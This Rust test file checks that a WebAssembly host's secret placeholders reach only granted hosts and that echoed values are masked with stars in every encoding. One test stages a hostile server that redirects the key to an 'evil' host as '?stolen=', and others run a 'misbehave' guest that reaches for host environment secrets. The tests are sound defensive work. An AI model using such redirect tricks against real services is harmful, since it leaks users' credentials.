//! Guests that want the value of a secret, and servers that hand it back.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::mpsc::{self, Receiver};

use aos_host::capability::secrets::placeholder;
use aos_host::kernel::{Fault, SessionOptions};
use aos_host::types::{Content, Reply, Syscall};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::json;

use super::house::{command, house, limits, options, overlap};
use super::network::Server;
use super::verdicts::rows_about;
use crate::support::{User, plugin};

const VALUE: &str = "sk_live/0123456789+abcdefgh";
const SEED: [u8; 32] = [3; 32];

/// What the guest holds.
fn held() -> String {
    placeholder(&SEED, "TOKEN")
}

/// A whole request as a server sees it.
fn whole(stream: &mut TcpStream) -> std::io::Result<String> {
    let mut bytes = Vec::new();
    let mut piece = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
            });
            if body.len() >= length.unwrap_or(0) {
                return Ok(text);
            }
        }
        match stream.read(&mut piece)? {
            0 => return Ok(text),
            count => bytes.extend_from_slice(&piece[..count]),
        }
    }
}

/// A server that tells what came, and answers by it.
fn telling(answer: impl Fn(&str) -> Vec<u8> + Send + 'static) -> (Server, Receiver<String>) {
    let (came, coming) = mpsc::channel();
    let server = Server::start(move |stream| {
        let request = whole(stream)?;
        stream.write_all(&answer(&request))?;
        // The test may have ended.
        let _told = came.send(request);
        Ok(())
    });
    (server, coming)
}

fn plain(body: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

/// Options with the secret, and requests to all of `granted`.
fn holding(secret_at: &Server, granted: &[&Server]) -> SessionOptions {
    let mut grants = vec![format!("secret:TOKEN@http://{}", secret_at.address)];
    grants.extend(granted.iter().map(|server| format!("net:http://{}", server.address)));
    SessionOptions {
        secrets: vec![("TOKEN".to_owned(), VALUE.to_owned().into())],
        placeholder_seed: Some(SEED),
        ..options(limits(), &grants)
    }
}

fn http_plugin() -> std::sync::Arc<aos_host::kernel::Plugin> {
    let bytes = std::fs::read(plugin("http")).expect("the http plugin");
    house().load("http", bytes).expect("loads")
}

/// Calls a tool of the `http` plugin; all that it says, as text.
fn http(options: &SessionOptions, tool: &str, arguments: serde_json::Value) -> String {
    let what = Syscall::Call { tool: Some(tool.to_owned()), arguments };
    match house().once(&http_plugin(), options, &what).reply {
        Ok(Reply::Output(output, _)) => {
            let texts = output.content.iter().map(|content| match content {
                Content::Text(text) => text.clone(),
                other => format!("{other:?}"),
            });
            let structured = output.structured.map(|value| value.to_string()).unwrap_or_default();
            texts.collect::<Vec<_>>().join("\n") + &structured
        }
        Err(Fault::Tool(error)) => error.to_string(),
        other => format!("{other:?}"),
    }
}

#[track_caller]
fn without_the_value(text: &str) {
    let forms = [
        VALUE.to_owned(),
        BASE64_STANDARD.encode(VALUE),
        VALUE.replace('/', "%2F").replace('+', "%2B"),
        VALUE.replace('/', "\\/"),
    ];
    for form in forms {
        assert!(!text.contains(&form), "{form} is in {text}");
    }
}

#[test]
fn the_granted_host_gets_the_value_and_the_guest_does_not() {
    let (server, came) = telling(plain);
    let options = holding(&server, &[]);
    let url = format!("http://{}/?k={}", server.address, held());
    let said = http(
        &options,
        "send",
        json!({
            "url": url, "method": "POST",
            "headers": { "authorization": format!("Bearer {}", held()) },
            "body": format!("token={}", held()),
        }),
    );
    let request = came.recv().expect("a request");
    assert!(request.contains("?k=sk_live%2F0123456789%2Babcdefgh"), "{request}");
    assert!(
        request.to_lowercase().contains(&format!("authorization: bearer {VALUE}")),
        "{request}"
    );
    assert!(request.ends_with(&format!("token={VALUE}")), "{request}");
    assert!(request.to_lowercase().contains("accept-encoding: identity"), "{request}");
    // The server has echoed all of it.
    without_the_value(&said);
    assert!(said.contains("token=***"), "{said}");
}

#[test]
fn another_host_gets_neither_value_nor_placeholder() {
    let (granted, _came) = telling(plain);
    let (other, came) = telling(plain);
    let options = holding(&granted, &[&other]);
    let said = http(
        &options,
        "send",
        json!({
            "url": format!("http://{}/{}?k={}", other.address, held(), held()), "method": "POST",
            "headers": { "authorization": format!("Bearer {}", held()) },
            "body": format!("token={}", held()),
        }),
    );
    let request = came.recv().expect("a request");
    without_the_value(&request);
    assert!(!request.contains(&held()), "{request}");
    assert!(request.contains("POST /?k= "), "{request}");
    without_the_value(&said);
}

#[test]
fn a_redirect_leads_the_value_nowhere() {
    let (evil, came) = telling(plain);
    let target = evil.address;
    let (granted, _came) = telling(move |request| {
        // It sends what it was given along in the address.
        let value = request.split("k=").nth(1).and_then(|rest| rest.split(' ').next());
        let value = value.unwrap_or_default();
        format!(
            "HTTP/1.1 302 Found\r\nLocation: http://{target}/?stolen={value}\r\n\
             Content-Length: 0\r\n\r\n"
        )
        .into_bytes()
    });
    let options = holding(&granted, &[&evil]);
    let url = format!("http://{}/?k={}", granted.address, held());
    let headers = json!({ "x-key": held() });
    let said = http(&options, "fetch", json!({ "url": url, "headers": headers }));
    let request = came.recv().expect("it followed");
    without_the_value(&request);
    assert!(request.contains("stolen=***"), "{request}");
    assert!(!request.contains(&held()), "{request}");
    without_the_value(&said);
}

#[test]
fn a_server_that_hands_it_back_encoded_hands_back_stars() {
    let forms: Vec<String> = vec![
        VALUE.to_owned(),
        BASE64_STANDARD.encode(format!("user:{VALUE}")),
        VALUE.replace('/', "%2f").replace('+', "%2b"),
        VALUE.replace('/', "\\/"),
        VALUE.bytes().map(|byte| format!("{byte:02x}")).collect(),
    ];
    for form in forms {
        let body = format!("you sent {form} to me");
        let (server, _came) = telling(move |_| plain(&body));
        let url = format!("http://{}/", server.address);
        let headers = json!({ "x-key": held() });
        let options = holding(&server, &[]);
        let said = http(&options, "fetch", json!({ "url": url, "headers": headers }));
        assert!(!said.contains(&form) && said.contains("***"), "{form}: {said}");
    }
}

#[test]
fn a_value_that_is_cut_over_chunks_is_found() {
    for size in [1, 2, 7, 19] {
        let (server, _came) = telling(move |_| {
            let mut answer = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
            for piece in format!("before {VALUE} after").as_bytes().chunks(size) {
                answer.extend(format!("{:x}\r\n", piece.len()).into_bytes());
                answer.extend_from_slice(piece);
                answer.extend_from_slice(b"\r\n");
            }
            answer.extend_from_slice(b"0\r\n\r\n");
            answer
        });
        let url = format!("http://{}/", server.address);
        let said = http(&holding(&server, &[]), "fetch", json!({ "url": url }));
        let stars = "*".repeat(VALUE.len());
        assert!(said.contains(&format!("before {stars} after")), "{size}: {said}");
    }
}

#[test]
fn an_error_page_and_its_fields_hold_stars() {
    let (server, _came) = telling(|_| {
        format!(
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"bad {VALUE}\"\r\n\
             Set-Cookie: k={VALUE}\r\nContent-Length: {}\r\n\r\nbad key {VALUE}",
            VALUE.len() + 8
        )
        .into_bytes()
    });
    let url = format!("http://{}/", server.address);
    let headers = json!({ "x-key": held() });
    let said = http(&holding(&server, &[]), "fetch", json!({ "url": url, "headers": headers }));
    assert!(said.contains("401"), "{said}");
    without_the_value(&said);
}

#[test]
fn a_compressed_answer_is_refused_since_nobody_can_look_through_it() {
    let (server, _came) = telling(|_| {
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd".to_vec()
    });
    let url = format!("http://{}/", server.address);
    let said = http(&holding(&server, &[]), "fetch", json!({ "url": url }));
    assert!(!said.contains("abcd") && !said.contains("200"), "{said}");
}

#[test]
fn a_range_is_not_asked_for_since_half_a_value_is_none() {
    let (server, came) = telling(plain);
    let url = format!("http://{}/", server.address);
    let headers = json!({ "range": "bytes=0-10", "accept-encoding": "gzip, br" });
    http(&holding(&server, &[]), "fetch", json!({ "url": url, "headers": headers }));
    let request = came.recv().expect("a request").to_lowercase();
    assert!(!request.contains("range:"), "{request}");
    assert!(
        request.contains("accept-encoding: identity") && !request.contains("gzip"),
        "{request}"
    );
}

#[test]
fn a_placeholder_that_was_guessed_is_nothing() {
    let (server, came) = telling(plain);
    let guessed = placeholder(&[4; 32], "TOKEN");
    let url = format!("http://{}/?k={guessed}", server.address);
    http(&holding(&server, &[]), "fetch", json!({ "url": url }));
    let request = came.recv().expect("a request");
    assert!(request.contains(&guessed), "{request}");
    without_the_value(&request);
}

#[test]
fn a_guest_of_wasi_0_3_gets_the_same() {
    let (server, came) = telling(|_| {
        format!("HTTP/1.1 302 Found\r\nLocation: /{VALUE}\r\nContent-Length: 0\r\n\r\n")
            .into_bytes()
    });
    let (other, elsewhere) = telling(plain);
    let options = holding(&server, &[&other]);
    let urls =
        [format!("{}/?k={}", server.address, held()), format!("{}/?k={}", other.address, held())];
    let ending = house().once(overlap(), &options, &command(&["http", &urls[0], &urls[1]]));
    let printed = ending.printed();
    without_the_value(printed);
    assert!(printed.contains("302 /***"), "{printed}");
    let request = came.recv().expect("a request");
    assert!(request.contains("?k=sk_live%2F0123456789%2Babcdefgh"), "{request}");
    let request = elsewhere.recv().expect("a request");
    assert!(request.contains("?k= "), "{request}");
}

#[test]
fn a_body_over_its_limit_is_refused_before_it_is_sent() {
    let (server, came) = telling(plain);
    let mut options = holding(&server, &[]);
    options.limits.http_body_bytes = 10_000;
    let url = format!("http://{}/", server.address);
    let body = format!("{}{}", held(), "x".repeat(20_000));
    let said = http(&options, "send", json!({ "url": url, "method": "POST", "body": body }));
    assert!(said.contains("http-body"), "{said}");
    assert!(came.try_recv().is_err(), "a request came");
}

#[test]
fn a_value_is_in_no_output_no_row_and_no_message_of_the_program() {
    let (server, _came) = telling(plain);
    let user = User::new();
    let set = user.run_with_input(&["secret", "set", "TOKEN"], format!("{VALUE}\n").as_bytes());
    assert_eq!(set.code, 0, "{}", set.stderr);
    let misbehave = super::house::guest_path("dist/misbehave.wasm").display().to_string();
    let secret = format!("TOKEN@http://{}", server.address);
    let url = format!("{}/", server.address);
    let mut said = String::new();
    for words in [&["http", &url][..], &["env", "TOKEN"], &["no-such-thing"]] {
        let flags = ["run", &misbehave, "--secret", &secret, "--allow-env", "*", "--"];
        let ran = user.run(&[&flags[..], words].concat());
        said.push_str(&ran.stdout);
        said.push_str(&ran.stderr);
    }
    for words in [
        &["audit", "export"][..],
        &["audit", "list"],
        &["secret", "list"],
        &["secret", "list", "-o", "json"],
    ] {
        said.push_str(&user.run(words).expect(0).stdout);
    }
    without_the_value(&said);
    assert!(said.contains("TOKEN"), "{said}");
    assert!(rows_about(&user, &["secret"]).iter().all(|row| !row.contains(VALUE)));
}

#[test]
fn mistakes_with_secrets_are_told_without_them() {
    let user = User::new();
    user.run(&["secret", "set", "TOKEN", VALUE]).complains(2, &["every process can see it"]);
    assert!(!user.run(&["secret", "set", "TOKEN", VALUE]).stderr.contains(VALUE));
    let short = user.run_with_input(&["secret", "set", "TOKEN"], b"short");
    short.complains(2, &["the value has 5 bytes"]);
    user.run(&["secret", "remove", "TOKEN"]).complains(2, &["no secret `TOKEN` is kept"]);
    let calculator = plugin("calculator");
    for (flag, says) in [
        ("TOKEN@https://example.org", "there is no secret TOKEN; `aos-host secret set TOKEN`"),
        ("TOKEN", "names no host"),
        ("TOKEN@http://example.org", "over https"),
        ("TOKEN@*", "hosts that are named"),
    ] {
        let run = ["run", &calculator, "-i", r#"{"expression":"1"}"#, "--secret", flag];
        user.run(&run).complains(2, &[says]);
    }
    let mut run = user.command();
    run.env("AOS_SECRET_TOKEN", VALUE).args([
        "run",
        &calculator,
        "--allow-env",
        "AOS_SECRET_TOKEN",
    ]);
    let ran = run.output().expect("starts");
    let stderr = String::from_utf8_lossy(&ran.stderr).into_owned();
    assert!(stderr.contains("is a secret of the host's") && !stderr.contains(VALUE), "{stderr}");
}

#[test]
fn a_guest_with_every_variable_does_not_get_the_hosts_secrets() {
    let user = User::new();
    let misbehave = super::house::guest_path("dist/misbehave.wasm").display().to_string();
    let mut run = user.command();
    run.env("AOS_SECRET_TOKEN", VALUE)
        .env("AOS_SECRETS_KEY", "ab".repeat(32))
        .env("VISIBLE", "seen")
        .args(["run", &misbehave, "--allow-env", "*", "--", "env"])
        .args(["AOS_SECRET_TOKEN", "AOS_SECRETS_KEY", "VISIBLE"]);
    let ran = run.output().expect("starts");
    let stdout = String::from_utf8_lossy(&ran.stdout).into_owned();
    without_the_value(&stdout);
    assert!(stdout.contains("AOS_SECRETS_KEY: none\nVISIBLE: seen\n"), "{stdout}");
}

/// The `search` plugin of the program, with an engine that the test plays.
#[test]
fn search_works_with_a_key_that_the_plugin_never_sees() {
    let (server, came) = telling(|_| {
        let found = json!([{ "title": "One", "url": "https://one.example",
            "description": format!("your key is {VALUE}") }]);
        plain(&json!({ "web": { "results": found } }).to_string())
    });
    let user = User::new();
    let set = user.run_with_input(&["secret", "set", "BRAVE_API_KEY"], VALUE.as_bytes());
    assert_eq!(set.code, 0, "{}", set.stderr);
    let base = format!("http://{}", server.address);
    let (secret, url) = (format!("BRAVE_API_KEY@{base}"), format!("SEARCH_URL={base}"));
    let search = ["run", "search", "--arg", "query=rust & wasm"];
    let flags = ["--secret", &secret, "--allow-env", &url];
    let ran = user.run(&[&search[..], &flags].concat()).expect(0);
    assert!(ran.stdout.starts_with("1. One\n   https://one.example\n"), "{}", ran.stdout);
    without_the_value(&ran.stdout);
    let request = came.recv().expect("a request").to_lowercase();
    assert!(request.contains(&format!("x-subscription-token: {}", VALUE.to_lowercase())));
    assert!(
        request.starts_with("get /res/v1/web/search?q=rust%20%26%20wasm&count=5 "),
        "{request}"
    );
    let rows = rows_about(&user, &["secret"]);
    assert_eq!(rows.len(), 3, "the placeholder, the request and their end: {rows:?}");
    assert!(rows.contains(&format!("verdict allowed secret BRAVE_API_KEY@{base}")), "{rows:?}");
    // The key is for that host: another gets none, and the run says which grant it would need.
    let (other, came) = telling(plain);
    let other = format!("http://{}", other.address);
    let url = format!("SEARCH_URL={other}");
    let flags = ["--secret", &secret, "--allow-env", &url, "--allow-net", &other];
    user.run(&[&search[..], &flags].concat()).complains(3, &["--secret", &other]);
    without_the_value(&came.recv().expect("a request"));
    // Without a key there is no search, and the plugin says what to give.
    user.run(&search).complains(1, &["BRAVE_API_KEY@https://api.search.brave.com"]);
}
